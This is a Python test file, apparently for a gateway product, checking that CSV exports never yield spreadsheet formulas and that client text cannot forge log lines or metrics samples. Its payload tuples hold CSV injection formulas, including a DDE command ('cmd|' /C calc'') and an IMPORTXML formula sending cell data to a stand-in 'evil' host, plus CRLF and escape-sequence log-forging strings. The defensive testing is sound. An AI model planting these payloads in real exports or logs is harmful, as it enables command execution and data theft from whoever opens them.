"""What clients write stays one cell of an export, one line of a log and one sample of the metrics."""

import csv
import io
import json
import re
from collections.abc import Iterator
from contextlib import ExitStack

import pytest
import requests
from hypothesis import given
from hypothesis import strategies as st

from telemetry.export import csv_cell
from telemetry.models import LogEntry
from tests.attacks.test_xss import signed_in
from tests.support.management import Client, new_admin
from tests.support.promises import promise
from tests.support.running import RunningGateway, fresh_store
from tests.support.world import World

pytestmark = pytest.mark.either_store

MARK = "injected"
# OWASP, CSV injection, and what spreadsheets of other languages and separators take for the same.
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", " =1", '"=1', "'\"=1", ";=1",
    "x;=1", "x\t=1", "x\n=1", "x\r\n=1", "＝1", "＋1", "－1", "＠1", '";=1', "=HYPERLINK(\"http://evil\")",
    "=IMPORTXML(CONCAT(\"http://evil/\",A1),\"//a\")", "=1;2", ";;=1", '""=1', "\u00a0=1", "-2+3+cmd|x", "|x",
)  # fmt: skip
FORGED = (
    f"x\n2026-01-01 00:00:00,000 ERROR gateway[1]: {MARK}", f"x\r\n{MARK}", f"x\r{MARK}", f"\x1b[2J\x1b[31m{MARK}",
    f"x\u2028{MARK}", f"x\x85{MARK}", f"x\x0b{MARK}", f"x\x00{MARK}", f"x\x08\x08{MARK}", f"{{{MARK}}} %s %(x)s {{0}}",
    f"x\u202e{MARK}", f"gateway_{MARK}_total 5\n", f'"}}\n{MARK}{{x="',
)  # fmt: skip
# What gunicorn and what the product begins a line with.
OWN_LINE = re.compile(
    r"\[\d{4}-\d\d-\d\d [\d:]+ \+0000\] \[\d+\] \[[A-Z]+\] |\d{4}-\d\d-\d\d [\d:,]+ [A-Z]+ [\w.]+\[\d+\]: "
)


@pytest.fixture(scope="module")
def own(tmp_path_factory, django_db_blocker) -> Iterator[World]:
    """A gateway of these tests' own: its log and its exports hold what they wrote."""
    with ExitStack() as resources:
        store = resources.enter_context(fresh_store(tmp_path_factory.mktemp("store")))
        resources.enter_context(django_db_blocker.unblock())
        resources.enter_context(store.used_by_orm())
        running = resources.enter_context(RunningGateway(store, tmp_path_factory.mktemp("exports")))
        world = World(running, resources)
        world.allow(everyone="user")
        yield world


def hostile_entries(texts: tuple[str, ...]) -> int:
    for number, text in enumerate(texts):
        value = text.replace("\0", "")  # which the journal replaces, and PostgreSQL refuses
        short = dict.fromkeys(("model", "username", "key_name", "provider_name", "rule_name", "exception"), value[:50])
        LogEntry.objects.create(entry_type="WorkRequest", correlation_id=f"row-{number}", message=value, payload=value,
                                tags={"team": value}, finish_reason=value[:10], **short)  # fmt: skip
    return len(texts)


def is_formula(text: str) -> bool:
    return text.strip(' "\t\r\n\u00a0').startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


@promise("No cell of an export is a formula, whatever separator a spreadsheet uses", target="0 formulas")
def test_no_cell_of_an_export_is_a_formula(own, figure):
    LogEntry.objects.all().delete()
    rows = hostile_entries(FORMULAS)
    visitor, client = signed_in(own), Client(own.gateway.url).as_user(new_admin())
    exports = [visitor.get("telemetry/logentry/export.csv").text]
    exports += [
        client.get(f"/stats/usage/?by={by}&format=csv").text for by in ("model", "user", "provider", "tag:team")
    ]
    cells = 0
    for text in exports:
        for separator in (",", ";", "\t"):
            for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
                cells += len(line)
                assert [value for value in line if is_formula(value)] == [], separator
    ids = [line["correlation_id"] for line in csv.DictReader(io.StringIO(exports[0], newline=""))]
    assert sorted(name for name in ids if name.startswith("row-")) == sorted(f"row-{n}" for n in range(rows))
    figure(f"{len(FORMULAS)} formulas, {cells} cells")


@promise("No cell of an export is a formula, whatever separator a spreadsheet uses", target="0 formulas")
@given(st.text(st.sampled_from("=+-@＝\"'; \t\r\n,x1"), max_size=12))
def test_no_text_becomes_a_formula(text):
    file = io.StringIO()
    csv.writer(file).writerow(["first", csv_cell(text), "last"])
    for separator in (",", ";", "\t"):
        lines = list(csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=separator))
        assert not [value for line in lines for value in line if is_formula(value)], (separator, file.getvalue())


@promise("One entry is one line of an export", target="each line is the JSON of one entry")
def test_one_entry_is_one_line(own):
    LogEntry.objects.all().delete()
    rows = hostile_entries(FORGED)
    lines = signed_in(own).get("telemetry/logentry/export.jsonl").content.split(b"\n")
    assert lines.pop() == b""
    ids = [json.loads(line)["correlation_id"] for line in lines]
    assert sorted(name for name in ids if name.startswith("row-")) == sorted(f"row-{n}" for n in range(rows))


@promise("Nobody writes a line of the gateway's own log", target="0 forged lines, 0 control characters")
def test_nobody_writes_a_line_of_the_log(own, figure):
    provider, client = own.provider(), Client(own.gateway.url)
    admin = client.as_user(new_admin())
    before = len(own.gateway.log())
    for text in FORGED:
        header = re.sub(r"[\r\n\0]", "", text).encode().decode("latin-1")
        for status in (200, 400, 401, 500):
            provider.answers(status=status, text=text, body={"error": {"message": text, "code": text}})
            own.ask(text, headers={"User-Agent": header, "X-Svc-Tags": "a=b", "X-Svc-Request-ID": header})
        own.ask("x", body={"model": text})
        own.ask("x", key=header)
        own.post(json.dumps({"model": text}).encode())
        client.post("/auth/login", grantType="password", userName=text, password=text)
        admin.post("/users/", userName=text, password=text)
        admin.post("/providers/", name=text, url=text, formatId=1)
        admin.get("/logs/", params={"search": text, text: "x"})
        for path in (f"/{requests.utils.quote(text)}", f"/work/{requests.utils.quote(text)}"):
            client.get(path, headers={"Referer": header, "X-Forwarded-For": header})
        raw(own, f"GET /users/ HTTP/1.1\r\nHost: {header}\r\n\r\n", f"{header} / HTTP/1.1\r\n\r\n", f"GET /{header}")
    written = own.gateway.log()[before:]
    lines = [line for line in written.splitlines() if not OWN_LINE.match(line)]
    assert lines == []
    assert re.findall(r"[\x00-\x08\x0b-\x1f\x7f\x85\u2028\u2029\u202e]", written) == []
    figure(f"{len(FORGED)} texts in 16 places")


def raw(world: World, *requests_: str) -> None:
    for text in requests_:
        try:
            world.raw(text.encode("latin-1") + b"\r\n\r\n")
        except OSError:
            continue  # refused without an answer


@promise("Nobody writes a sample of the metrics", target="each line is a sample of ours")
def test_nobody_writes_a_sample(own, figure):
    provider = own.provider(own.model, *(text for text in FORMULAS if text.isprintable() and text == text.strip()))
    for text in (*FORGED, *FORMULAS):
        provider.answers(status=500, body={"error": {"message": text, "type": text}})
        own.ask("x", body={"model": text}, headers={"X-Svc-Cache": "bypass"})
    sample = re.compile(r'(#.*|(gateway|process|python)_\w+(\{(\w+="([^"\\]|\\["n\\])*",?)*\})? [-+.\deEinfNa]+)\Z')
    lines = requests.get(f"{own.gateway.url}/metrics", timeout=30).text.split("\n")
    assert [line for line in lines if line and not sample.match(line)] == []
    assert not [line for line in lines if MARK in line]
    figure(f"{len(lines)} lines")
